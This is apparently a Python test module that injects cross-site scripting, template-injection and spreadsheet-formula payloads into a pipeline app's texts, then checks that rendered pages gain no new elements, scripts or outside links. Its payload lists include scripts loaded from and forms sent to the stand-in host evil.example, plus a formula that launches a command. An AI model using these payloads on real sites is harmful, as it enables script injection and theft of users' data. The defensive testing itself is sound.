"""Scripts, markup, templates and formulas that texts may hold, and what a page makes of them.

A page with such texts is compared with the same page of harmless texts as long: it has no more elements, and no other
attributes. So the test needs no list of what is allowed.
"""

import re
from collections import Counter
from collections.abc import Callable, Iterator
from functools import lru_cache
from html.parser import HTMLParser
from itertools import count, product
from typing import Any

from diagnostics.pipelines.domain.own_pipeline import OwnStage

WAYS_OUT = (
    *("", '">', "'>", "`>", "x>", '" ', "' ", "` ", "-->", "--!>", "]]>", "*/", "\\x3e"),
    *("</title>", "</textarea>", "</style>", "</script>", "</legend></fieldset>", "</svg>", "</option></select>"),
    *("</noscript>", "</template>", "</dialog></details>", "&quot;&gt;", "%22%3E", "\\u0022\\u003e"),
)
"""How a text leaves the place that it was put in: an element, an attribute, a comment, a script, an encoding."""

LOADS = (
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><foreignObject><body onload=alert(1)>",
    "<svg><a xlink:href=javascript:alert(1)><text>x",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<iframe srcdoc=&lt;script&gt;alert(1)&lt;/script&gt;>",
    "<object data=javascript:alert(1)>",
    "<form action=//evil.example><button>x",
    "<a href=javascript:alert(1)>x</a>",
    "<style>*{background:url(//evil.example)}</style>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<math href=javascript:alert(1)>x",
    "onmouseover=alert(1) style=position:fixed ",
    "{{ request.META }}{% debug %}",
    "{0.__class__.__init__.__globals__}",
    "%(password)s${7*7}#{7*7}<%= 7*7 %>",
    "=HYPERLINK(CHAR(104),1)+cmd|' /C calc'!A0",
    "[x](javascript:alert(1)) ![x](//evil.example/x.png)",
)
"""What it then does: run, load, send, look different, or be worked out by a template or a spreadsheet."""

COLLECTED = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "x onfocus=alert(1) autofocus ",
    '" autofocus onfocus=alert(1) x="',
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</legend></fieldset><form action=//evil.example>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<!-- --!> <script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "[x](javascript:alert(1))",
    "![x](x onerror=alert(1))",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)",
    "＜script＞alert(1)＜/script＞",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "]]><script>alert(1)</script>",
    "{{7*7}}{% debug %}{{ request.META }}",
    "%(name)s {0.__class__.__init__} ${7*7} #{7*7}",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A//"
    "</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/oNloAd=alert()//>",
)
"""Others that were found in lists of such texts, or in what earlier filters let through."""

SCRIPTS = tuple(dict.fromkeys([*(way + load for way, load in product(WAYS_OUT, LOADS)), *COLLECTED]))

LINES = ("tspan ", "text ", "mark ")
"""Elements that the site makes of a text: the lines in a chart, and what is to be filled in, which is in brackets."""

Change = Callable[[str], str]


def hostile() -> Change:
    """Return what adds a script to a text, the next one each time."""
    numbers = count()
    return lambda text: f"{text}{SCRIPTS[next(numbers) % len(SCRIPTS)]}"


def harmless() -> Change:
    """Return what adds letters in place of the scripts, so that texts are as long."""
    numbers = count()
    return lambda text: f"{text}{without_script(SCRIPTS[next(numbers) % len(SCRIPTS)])}"


def without_script(text: str) -> str:
    """Return a text as long, of letters and spaces."""
    return re.sub(r"[^ ]", "x", text)


def own_stages(change: Change) -> Iterator[OwnStage]:
    """Yield the stages of a team's own pipeline in which every script is, in texts as long as they may be."""
    for number in range(1, 19):
        yield OwnStage(
            f"own-{number}",
            name=change("Stage")[:200],
            exit_criterion=change("Done"),
            owner=change("Kari")[:100],
            activities="\n".join(change("Do") for _ in range(30)),
            probability=5 * number,
            wins=number == 18,
        )


def changed(value: Any, change: Change) -> Any:
    """Return a document with every authored text changed, in both languages."""
    if (
        isinstance(value, dict)
        and value.keys() == {"en", "nb"}
        and all(isinstance(text, str) for text in value.values())
    ):
        return {language: change(text) if text else text for language, text in value.items()}
    if isinstance(value, dict):
        return {key: changed(item, change) for key, item in value.items()}
    return [changed(item, change) for item in value] if isinstance(value, list) else value


NOT_OURS = {"iframe", "object", "embed", "base", "style", "math", "foreignobject", "template"}
"""Elements that no page of this site has."""


class Structure(HTMLParser):
    """The elements of a page with the names of their attributes, the addresses that are not ours, and what would run.

    What would run or load is told by itself, too, for pages that say more or less of other texts.
    """

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[str] = []
        self.strange: list[str] = []
        self.live: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append(f"{tag} {' '.join(sorted(name for name, _ in attrs))}")
        own = dict(attrs)
        is_data = own.get("type") == "application/json"
        is_ours = tag != "script" or is_data or re.match("/static/|/admin/jsi18n/$", str(own.get("src")))
        runs = any(re.match("on|style|srcdoc|http-equiv", name) for name in own)
        if not is_ours or tag in NOT_OURS or runs:
            self.live.append(self.get_starttag_text() or tag)
        links = [value or "" for name, value in attrs if name in ("href", "src", "action", "formaction")]
        self.strange += [link for link in links if not re.match(r"[/#?]|mailto:|https?://|$|[a-z0-9-]+/|\.\./", link)]


structure_of = lru_cache(maxsize=400)(Structure)


def added(before: str, after: str) -> list[str]:
    """Return the elements that only `after` has; charts break texts at hyphens, so it may have more lines."""
    elements = Counter(structure_of(after).elements) - Counter(structure_of(before).elements)
    return [element for element in elements if not element.startswith(LINES)]


def shape(value: Any) -> Any:
    """Return what a parsed file is made of, without its texts."""
    if isinstance(value, dict):
        return {key: shape(item) for key, item in value.items()}
    return [shape(item) for item in value] if isinstance(value, list | tuple) else type(value).__name__
